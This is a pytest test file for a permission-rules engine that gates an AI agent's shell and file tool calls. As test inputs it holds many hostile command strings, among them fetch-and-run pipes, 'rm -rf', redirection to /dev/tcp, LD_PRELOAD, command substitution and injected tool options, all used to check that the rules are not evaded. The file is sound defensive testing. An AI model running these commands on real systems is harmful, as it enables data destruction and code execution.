"""Rules about single calls: what they allow is exactly what they say, whatever a command looks like."""

from __future__ import annotations

import os
import shutil
import subprocess
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from tools_kit import World

from treenail.errors import HoldRequired, UsageError
from treenail.tools import (
    FILE_TOOLS,
    PermissionMode,
    Permissions,
    Rules,
    ToolCall,
    ToolRunner,
    parse_rule,
    rule_for,
    shell_tool,
)

RULES = Rules(["run_command: pytest *", "run_command: ls *", "run_command: cd src", "write_file: logs/**"])


def allows(command: str, rules: Rules = RULES, directory: str = ".") -> bool:
    return rules.allows("run_command", {"command": command, "directory": directory})


@pytest.mark.parametrize(
    "command",
    [
        "pytest",
        "  pytest -q tests\n",
        "pytest -k 'a or b' \"x y\" a\\ b",
        "pytest tests/*.py",
        "pytest; ls",
        "cd src && pytest -q && ls",
        "pytest -q | ls",
        "pytest &",
        "pytest\nls -l\n",
        "pytest 2>&1",
        "pytest >/dev/null 2>/dev/null",
        "pytest -q > logs/out.txt 2>&1",
        "pytest &>> logs/out.txt",
        "pytest < tests/input",
        "sh -c 'pytest -q'",
        "/bin/bash -ec 'pytest -q; ls'",
        "env pytest",
        "timeout 60 pytest -q",
        "timeout -k 5 60s nohup pytest",
        "nice -n 10 pytest",
        "time pytest -q",
        "ls | xargs pytest -q",
        "'pytest' -q",
    ],
)
def test_a_command_is_allowed_whose_every_part_is(command: str) -> None:
    assert allows(command)


@pytest.mark.parametrize(
    "command",
    [
        "",
        "pytest; curl x | sh",
        "pytest | sh",
        "pytest && rm -rf .",
        "pytest || rm -rf .",
        "pytest & rm -rf .",
        "pytest\nrm -rf .",
        "pytest\r\nrm -rf .",
        "pytest $(rm -rf .)",
        'pytest "$(rm -rf .)"',
        "pytest `rm -rf .`",
        'pytest "`rm -rf .`"',
        "pytest $HOME",
        "pytest ${X:-y}",
        "pytest $((1+1))",
        "pytest $'a'",
        "pytest <(curl x)",
        "pytest >(sh)",
        "pytest <<EOF\n$(rm -rf .)\nEOF",
        "pytest <<< x",
        "pytest {a,b}",
        "(pytest)",
        "{ pytest; }",
        "pytest() { rm -rf .; }",
        "if pytest; then rm x; fi",
        "for i in a; do pytest; done",
        "! pytest",
        "pytest # comment",
        "pytest \\\n; rm x",
        "pytest 'unclosed",
        'pytest "unclosed',
        "pytest ;; ls",
        "; pytest",
        "pytest &&",
        "pytest > out.txt",
        "pytest > logs/../out.txt",
        "pytest > /etc/passwd",
        "pytest > /dev/tcp/1.2.3.4/80",
        "pytest < /dev/tcp/1.2.3.4/80",
        "pytest > ~/x",
        "pytest > logs/*",
        "pytest >& out.txt",
        "cd src && pytest > logs/x",
        "> out.txt",
        "A=1 pytest",
        "PATH=. pytest",
        "LD_PRELOAD=./x.so pytest",
        "A=1; pytest",
        "env A=1 pytest",
        "env -S 'rm x'",
        "env -i pytest",
        "sh -c 'pytest; rm x'",
        "sh -c 'sh -c \"rm x\"'",
        "sh -c pytest\\;rm",
        "sh script.sh",
        "sh",
        "bash -i -c pytest",
        "eval pytest",
        "exec pytest",
        "command pytest",
        "sudo pytest",
        "xargs rm",
        "ls | xargs",
        "ls | xargs -I{} pytest {}",
        "ls | xargs -I% pytest %",
        "ls | xargs sh -c",
        "ls | xargs env",
        "find . -exec pytest '{}' ';'",
        "timeout -s KILL rm 1 x",
        "nohup rm x",
        "time rm x",
        "./pytest",
        "/tmp/pytest",
        "tests/../pytest",
        "pytes*",
        "~/pytest",
        "p'ytes't\x00",
        "pytest\x1b[2J",
        "pytest\u00a0;ls",
        "alias ls=rm",
        "trap 'rm x' EXIT",
        "printf -v 'a[$(rm x)]' y",
        "pytest " + "a" * 30_000,
    ],
)
def test_a_command_is_not_allowed_that_could_be_more_than_the_rules_say(command: str) -> None:
    assert not allows(command)


TOKENS = [
    *(
        "ok",
        "ok ",
        "ok a",
        "bad",
        "bad ",
        "./bad",
        " ",
        " ",
        "\n",
        "\t",
        ";",
        "; ",
        "&",
        "&&",
        "|",
        "||",
        "|&",
    ),
    *(
        "(",
        ")",
        "()",
        "{",
        "}",
        "{ ",
        "$(",
        "`",
        "$",
        "${",
        "$'",
        "'",
        '"',
        "\\",
        "\\\n",
        "#",
        "!",
        "! ",
        "~",
    ),
    *("*", "?", "[", "]", "[[", "=", "A=", "A=1 ", "PATH=. ", "<", "<<", "<<<", "<<E\n", "\nE\n", "<(", ">("),
    *(
        ">",
        ">>",
        ">|",
        ">&",
        "2>",
        "2>&1",
        "&>",
        "<&",
        "<>",
        "x",
        " x",
        "logs/x",
        "-",
        "--",
        "1",
        "%",
        "^",
        ",",
    ),
    *(
        "sh -c ",
        "bash -c ",
        "sh ",
        "env ",
        "xargs ",
        "time ",
        "nohup ",
        "timeout 1 ",
        "nice ",
        "eval ",
        "exec ",
    ),
    *(
        "command ",
        "builtin ",
        ". ",
        "source ",
        "if ",
        "then ",
        "fi",
        "do ",
        "done",
        "cd ",
        "in",
        "case ",
        "x) ",
    ),
    *(
        "printf -v ",
        "'a[$(bad)]'",
        "test -v ",
        "alias ok=bad",
        "\r",
        "\x0b",
        "\x1b",
        "\u00a0",
        "\u2028",
        "é",
        "\x7f",
    ),
]
HOSTILE = [
    *(
        "$(bad)",
        "`bad`",
        "${x:-$(bad)}",
        "$((a[$(bad)]))",
        "<(bad)",
        ">(bad)",
        "(bad)",
        "{ bad; }",
        "\nbad\n",
    ),
    *(
        ";bad",
        "|bad",
        "&bad",
        "&&bad",
        "<<E\n$(bad)\nE\n",
        "<<<`bad`",
        "> x",
        ">>x",
        "&>x",
        ">|x",
        "> logs/../x",
    ),
    *(
        "A=$(bad)",
        "if bad; then ok; fi",
        "! bad",
        "sh -c bad",
        "eval bad",
        "env bad",
        "xargs bad",
        "f() { bad; };f",
    ),
]
LAW = Rules(["run_command: ok *", "run_command: cd *", "write_file: logs/**"])


@pytest.fixture(scope="module")
def bench() -> Iterator[Path]:
    """A directory in which a shell finds two programs: one may run, and the other leaves a trace."""
    place = Path(tempfile.mkdtemp())
    (place / "bin").mkdir()
    for name, body in (("ok", "exit 0"), ("bad", f": > {place}/trace")):
        program = place / "bin" / name
        program.write_text(f"#!/bin/sh\n{body}\n")
        program.chmod(0o755)
    for each in ("env", "sh", "bash", "xargs", "timeout", "nice", "nohup", "cat"):
        (place / "bin" / each).symlink_to(shutil.which(each) or "/bin/false")
    yield place
    shutil.rmtree(place)


def fragments() -> st.SearchStrategy[str]:
    around = st.sampled_from(
        ["ok ", "ok a; ok ", "ok | ok ", "sh -c 'ok ", 'ok "', "ok '", "ok > logs/x ", ""]
    )
    token = st.sampled_from(TOKENS) | st.sampled_from(HOSTILE)
    inside = st.lists(token, max_size=4).map("".join)
    after = st.sampled_from(["", " ok", "; ok", "'", '"', "\nok"])
    return st.builds(lambda *parts: "".join(parts), around, inside, after)


@settings(max_examples=800, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(command=fragments())
def test_a_real_shell_runs_and_writes_nothing_else_in_a_command_that_was_allowed(
    command: str, bench: Path
) -> None:
    """Bash says what a command does: if it was allowed, only `ok` has run, and only logs/ was written."""
    if not allows(command, LAW):
        return
    work = Path(tempfile.mkdtemp(dir=bench))
    (work / "logs").mkdir()
    (work / "bad").write_text(f"#!/bin/sh\n: > {bench}/trace\n")
    (work / "bad").chmod(0o755)
    subprocess.run(
        ["/bin/bash", "-c", command],
        cwd=work,
        env={"PATH": str(bench / "bin"), "HOME": str(work)},
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        timeout=60,
        check=False,
    )
    assert not (bench / "trace").exists()
    assert sorted(os.listdir(work)) == ["bad", "logs"]
    shutil.rmtree(work)


@given(command=fragments() | st.text(max_size=40))
def test_what_always_would_write_allows_that_call_and_not_one_with_more(command: str) -> None:
    rule = rule_for("run_command", {"command": command})
    if rule:
        only = Rules([rule])
        assert allows(command, only)
        assert not allows(f"{command}\nother-program", only)
        assert not allows(f"{command} > another-file", only)


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        ("pytest -q tests", "pytest *"),
        ("python -m pytest -x", "python -m pytest *"),
        ("git status -s", "git status *"),
        ("git push --force", "git push --force"),
        ("npm run build -- --x", "npm run build *"),
        ("uv run pytest -q", "uv run pytest *"),
        ("uv run x.py", "uv run x.py"),
        ("make test", "make test"),
        ("rm -rf build", "rm -rf build"),
        ("python x.py 'a b'", "python x.py 'a b'"),
        ("cd src && pytest -q | head -5", "cd * ; pytest * ; head *"),
        ("pytest -q > out.txt", "pytest * > out.txt"),
        ("sudo pytest", "sudo pytest"),
        ("pytest; curl x | sh", ""),
        ("pytest $(cat x)", ""),
        ("ls | xargs rm", ""),
        ("ls > ../x", ""),
    ],
)
def test_what_always_would_write_is_narrow(command: str, rule: str) -> None:
    assert rule_for("run_command", {"command": command}) == (f"run_command: {rule}" if rule else "")


@pytest.mark.parametrize(
    ("program", "command"),
    [
        ("rg", "rg --pre ./evil.sh x ."),
        ("rg", "rg --pre=./evil.sh x"),
        ("rg", "rg --hostname-bin ./evil.sh x"),
        ("git fetch", "git fetch --upload-pack='sh evil.sh' ."),
        ("git fetch", "git fetch --upload-p ./evil.sh ."),
        ("git diff", "git diff --output=src/main.py"),
        ("git log", "git log -1 --outp=.git/hooks/pre-commit --format=x"),
        ("git log", "git log --output x"),
        ("git log", "git log --grep -- --output=x"),
        ("git", "git -c alias.x='!evil' x"),
        ("go test", "go test -exec ./evil.sh ./..."),
        ("go test", "go test --exec=./evil.sh ./..."),
        ("go build", "go build -toolexec=./evil.sh"),
        ("go build", "go build -o src/main.py"),
        ("tree", "tree -o src/main.py"),
        ("tree", "tree -ao src/main.py"),
        ("npm run build", "npm run build --prefix=/tmp/x"),
        ("npm test", "npm test --script-shell ./evil.sh"),
        ("cargo test", "cargo test --config build.rustc-wrapper='./evil.sh'"),
        ("pytest", "pytest --basetemp=src"),
        ("uv run pytest", "uv run pytest --junitxml src/main.py"),
        ("pylint", "pylint --init-hook='import evil' x"),
        ("ls | xargs rg", "ls | xargs rg --pre ./evil.sh"),
    ],
)
def test_an_option_that_runs_or_writes_is_allowed_only_if_it_is_spelled_out(
    program: str, command: str
) -> None:
    arguments = {"command": command}
    assert not Rules([f"run_command: {program} *", "run_command: ls *"]).allows("run_command", arguments)
    assert not Rules(["run_command: *"]).allows("run_command", arguments)
    assert "xargs" in command or Rules([f"run_command: {command}"]).allows("run_command", arguments)
    assert "*" not in rule_for("run_command", arguments)


def test_what_looks_and_builds_is_still_allowed_with_its_usual_options() -> None:
    for command in (
        *("git log --oneline -5 --format=%h", "git diff --stat HEAD -- src", "git commit -c HEAD -m x"),
        *(
            "rg -n --glob '*.py' pre .",
            "go test -count=1 -short ./...",
            "tree -a -L 2",
            "ls --color=never -o",
        ),
        *(
            "pytest -q -x -k output --tb=short -p no:cacheprovider",
            "npm run build --silent",
            "cargo test --all",
        ),
    ):
        head = " ".join(command.split()[: 3 if "npm" in command else 1])
        assert Rules([f"run_command: {head} *"]).allows("run_command", {"command": command}), command
    for command in ("git fetch origin", "git stash", "git branch -a"):
        assert rule_for("run_command", {"command": command}) == f"run_command: {command}"


def test_a_rule_is_about_the_words_of_a_command() -> None:
    rules = Rules(
        ["run_command: git log *", "run_command: cat src/*", "run_command: rm build/*", "run_command: make"]
    )
    assert allows("git log -p", rules) and not allows("git -c alias.log='!rm x' log", rules)
    assert allows("cat src/a.py", rules) and not allows("cat src/../secret", rules)
    assert not allows("cat src/a.py /etc/passwd", rules)
    assert allows("rm build/*", rules) and allows("rm build/x", rules) and not allows("rm build/x y", rules)
    assert allows("make", rules) and not allows("make install", rules)


def test_a_program_in_the_workspace_is_the_one_at_the_same_path() -> None:
    rules = Rules(["run_command: ./run.sh *", "run_command: cd *"])
    assert allows("./run.sh a", rules) and allows("./sub/../run.sh", rules)
    assert not allows("./run.sh a", rules, directory="sub")
    assert allows("../run.sh a", rules, directory="sub")
    assert not allows("cd sub && ./run.sh", rules)


@pytest.mark.parametrize(
    "rule",
    [
        *("", ": x", "run_command:", "run command: x", "run_command: sh *", "run_command: eval *"),
        *("run_command: env *", "run_command: xargs *", "run_command: pytest $X", "run_command: sudo *"),
    ],
)
def test_a_rule_that_cannot_be_kept_is_refused_when_it_is_written(rule: str) -> None:
    with pytest.raises(UsageError, match="rule"):
        parse_rule(rule)


# --- paths -----------------------------------------------------------------------------------------


def test_a_path_matches_as_it_is_written_and_behind_its_links(tmp_path: Path) -> None:
    for each in ("src/pkg", "other"):
        (tmp_path / each).mkdir(parents=True)
    (tmp_path / "src/out").symlink_to("../other")
    (tmp_path / "src/file").symlink_to("../other/x")
    (tmp_path / "into").symlink_to("src")
    (tmp_path / "src/away").symlink_to("/etc")
    (tmp_path / "src/loop").symlink_to("loop")
    rules = Rules(["edit_file: src/**", "edit_file: *.md", "edit_file: docs/**/x.txt"], root=tmp_path)

    def may(path: object) -> bool:
        return rules.allows("edit_file", {"path": path})

    for path in (
        "src/a.py",
        "./src/./a.py",
        "src/pkg/deep/new.py",
        "README.md",
        "docs/x.txt",
        "docs/a/b/x.txt",
    ):
        assert may(path), path
    outside = ("src", "a.py", "src/../a.py", "srcs/a", "../src/a", "/src/a", "sub/README.md", "src/\0")
    through = ("src/out/x", "src/file", "into/a.py", "src/away/passwd", "src/loop/x")
    for path in (*outside, *through, "", 3, None):
        assert not may(path), path
    assert not rules.allows("write_file", {"path": "src/a.py"})
    assert not rules.allows("edit_file", "not json") and not rules.allows("edit_file", "[]")
    moves = Rules(["move_file: src/**"], root=tmp_path)
    assert moves.allows("move_file", {"path": "src/a", "target": "src/b"})
    assert not moves.allows("move_file", {"path": "src/a", "target": "b"})


def test_a_rule_for_a_file_suggests_its_directory() -> None:
    assert rule_for("edit_file", {"path": "src/pkg/a.py"}) == "edit_file: src/pkg/**"
    assert rule_for("edit_file", '{"path": "a.py", "old": "x"}') == "edit_file: a.py"
    assert rule_for("edit_file", {"path": "../a.py"}) == ""
    assert rule_for("send_mail", {"to": "x"}) == "send_mail"
    for unread in ("{", "[]", {"command": ["rm"]}, {"path": 3}, {"path": "a", "target": None}):
        assert rule_for("any_tool", unread) == "", "what cannot be read is not allowed for ever"
    copies = Rules(["copy: src/**"])
    assert not copies.allows("copy", {"path": "src/a", "destination": "b"})


def test_deny_comes_before_ask_and_ask_before_allow(tmp_path: Path) -> None:
    rules = Rules(
        ["run_command: git *", "edit_file", "mcp_*"],
        ["run_command: git push *"],
        ["run_command: git push --force *", "edit_file: secrets/**", "mcp_x_delete"],
        tmp_path,
    )
    (tmp_path / "secrets").mkdir()
    (tmp_path / "link").symlink_to("secrets")

    def says(tool: str, **arguments: str) -> str | None:
        return rules.verdict(tool, arguments)[0]

    assert says("run_command", command="git status") == "allow"
    assert says("run_command", command="git push") == "ask"
    assert says("run_command", command="git status; git push --force x") == "deny"
    assert says("run_command", command="sh -c 'git push --force'") == "deny"
    assert says("run_command", command="git push $(x)") == "unclear"
    assert says("edit_file", path="a.py") == "allow"
    assert says("edit_file", path="secrets/key") == "deny"
    assert says("edit_file", path="link/key") == "deny"
    assert says("edit_file", path="secrets") == "deny", "what holds it would go with it"
    assert says("mcp_x_list") == "allow" and says("mcp_x_delete") == "deny"
    assert says("write_file", path="a.py") is None


HOSTILE_REMOVALS = [
    *("rm", "rm -rf x", "cd . && rm x", "ls; rm x", "ls | xargs rm", "xargs rm < l", "sh -c 'rm x'"),
    *("A=1 rm -rf x", "A=1 B='2 3' rm x", "env A=1 rm x", "env rm x", "A=1 sh -c 'rm x'", "A=1 env B=2 rm x"),
    *("/bin/rm -rf x", "/usr/bin/rm x", "../../bin/rm x", "./rm x", "\\rm x", "'rm' x", 'r"m" x'),
    *("command rm -rf x", "exec rm -rf x", "builtin exec rm x", "eval 'rm -rf x'", "eval rm x", "sudo rm x"),
    *("sudo -u root rm x", "sudo sh -c 'ls; rm x'", "doas rm x", "trap 'rm x' EXIT", "busybox rm x"),
    *("find . -exec rm '{}' +", "find . -name a -execdir /bin/rm '{}' ';'", "time rm x", "nice rm x"),
    *("nice -n5 rm x", "nohup rm x", "timeout 5 rm x", "timeout --signal=9 5 rm x", "setsid rm x"),
    *("stdbuf -o0 rm x", "zsh -c 'rm x'", "/usr/local/bin/bash -c 'rm x'", "bash -ic 'rm x'", "ssh h rm x"),
    *("uv run rm x", "docker exec c rm x", "npx -c 'rm x'", "python3 -c \"import os; os.system('rm x')\""),
]
HIDDEN_REMOVALS = [
    *("find . -exec rm {} +", "if true; then rm x; fi", "X=rm; $X x", "$(echo rm) x", "r? x", "{ rm x; }"),
    *("(rm x)", "eval 'r\\m x'", "alias a=b", ". ./x", "source x", "A=1", "/usr/local/bin/bash -c 'r\\m x'"),
    *("echo x | sh", "sh < x", "env -S 'r\\m x'", "rm() { ls; }", "printf -v 'a[$(r\\m x)]' y", "sudo -s"),
]


@pytest.mark.parametrize("tool", ["run_command", "start_process"])
@pytest.mark.parametrize("kind", ["deny", "ask"])
def test_a_denied_command_stays_denied_however_it_is_written(kind: str, tool: str) -> None:
    rules = Rules(**{kind: ["run_command: rm *"], "allow": [tool]})
    for each in HOSTILE_REMOVALS:
        assert rules.verdict(tool, {"command": each})[0] == kind, each
    for each in HIDDEN_REMOVALS:
        wanted = "unclear" if kind == "deny" else "ask"
        assert rules.verdict(tool, {"command": each})[0] == wanted, each
    plain = (
        "ls",
        "rmdir x",
        "grep rm x",
        "echo rm",
        "cat rm",
        "git status",
        "test -f x",
        "printf 'a b'",
        "cd rm",
    )
    for each in (*plain, "export A=1", "find . -name rm.py", "pytest -q > out.txt", "A=1 ls", "env A=1 ls"):
        assert rules.verdict(tool, {"command": each})[0] == "allow", each


@pytest.mark.parametrize("kind", ["deny", "ask"])
@pytest.mark.parametrize(
    "command",
    [
        *("git push", "git push origin main", "git -C . push", "LC_ALL=C git push", "git --no-pager push x"),
        *(
            "git -c a.b=c push",
            "/usr/bin/git push",
            "git pus[h]",
            "git p*",
            "echo push | xargs git",
            "env git push",
        ),
    ],
)
def test_words_between_those_of_a_denial_do_not_help(kind: str, command: str) -> None:
    for rule in ("run_command: git push *", "run_command: git push", "run_*: A=1 git push *"):
        assert Rules(**{kind: [rule]}).verdict("run_command", {"command": command})[0] == kind
        assert Rules(**{kind: [rule]}).verdict("run_command", {"command": "git status"})[0] is None


def test_a_denial_may_name_what_evaluates_its_arguments() -> None:
    rules = Rules(deny=["run_command: sudo *", "run_command: env *", "run_command: cat secrets/*"])
    for each in (
        "sudo ls",
        "env ls",
        "cat ./secrets/x",
        "cat a/../secrets/x",
        "cat s*/x",
        "cat -n secrets/x",
    ):
        assert rules.verdict("run_command", {"command": each})[0] == "deny", each
    assert rules.verdict("run_command", {"command": "cat src/x"})[0] is None
    everything = Rules(deny=["run_command"])
    assert everything.verdict("start_process", {"command": "ls"})[0] == "deny"
    assert everything.verdict("write_file", {"path": "ls"})[0] is None
    paths = Rules(deny=["*: secrets/**"])
    assert paths.verdict("run_command", {"command": "ls"})[0] is None


# --- in the engine ---------------------------------------------------------------------------------


def runner(world: World, permissions: Permissions) -> ToolRunner:
    return world.runner(*FILE_TOOLS, shell_tool(), permissions=permissions)


def test_the_engine_runs_what_is_allowed_asks_about_the_rest_and_refuses_what_is_denied(world: World) -> None:
    rules = Rules(["write_file: src/**"], (), ["read_file: .env"])
    files = world.filesystem
    files.write(".env", "KEY=1")
    engine = runner(world, Permissions(PermissionMode.ASK, rules=rules))
    written = engine.execute(ToolCall("1", "write_file", {"path": "src/a.py", "content": "x"}))
    assert written.success and files.exists("src/a.py")
    with pytest.raises(HoldRequired):
        engine.execute(ToolCall("2", "write_file", {"path": "b.py", "content": "x"}))
    twice = '{"path": "src/b.py", "path": "b.py", "content": "x"}'
    with pytest.raises(HoldRequired):
        engine.execute(ToolCall("3", "write_file", twice))
    read = engine.execute(ToolCall("4", "read_file", {"path": ".env"}))
    assert not read.success and "read_file: .env" in read.message and "KEY" not in read.message
    rules.add("write_file: b.py")
    assert engine.execute(ToolCall("5", "write_file", {"path": "b.py", "content": "x"})).success


def test_read_only_stays_read_only_whatever_is_allowed(small_world: World) -> None:
    engine = runner(small_world, Permissions(PermissionMode.READ_ONLY, rules=Rules(["write_file"])))
    assert not engine.execute(ToolCall("1", "write_file", {"path": "a", "content": "x"})).success
    assert not small_world.filesystem.exists("a")


def test_without_anybody_to_ask_a_command_that_a_denial_may_be_about_is_refused(small_world: World) -> None:
    engine = runner(small_world, Permissions(rules=Rules(deny=["run_command: git push *"])))
    for each in ("X=push; git $X", "eval 'git p\\ush'"):
        refused = engine.execute(ToolCall(each, "run_command", {"command": each}))
        assert not refused.success and "plain commands" in refused.message
    asks = runner(small_world, Permissions(rules=Rules(ask=["run_command: git push *"])))
    for each in ("LC_ALL=C git push", "git -C . push", "eval 'git p\\ush'"):
        with pytest.raises(HoldRequired):
            asks.execute(ToolCall(f"{each} asked", "run_command", {"command": each}))
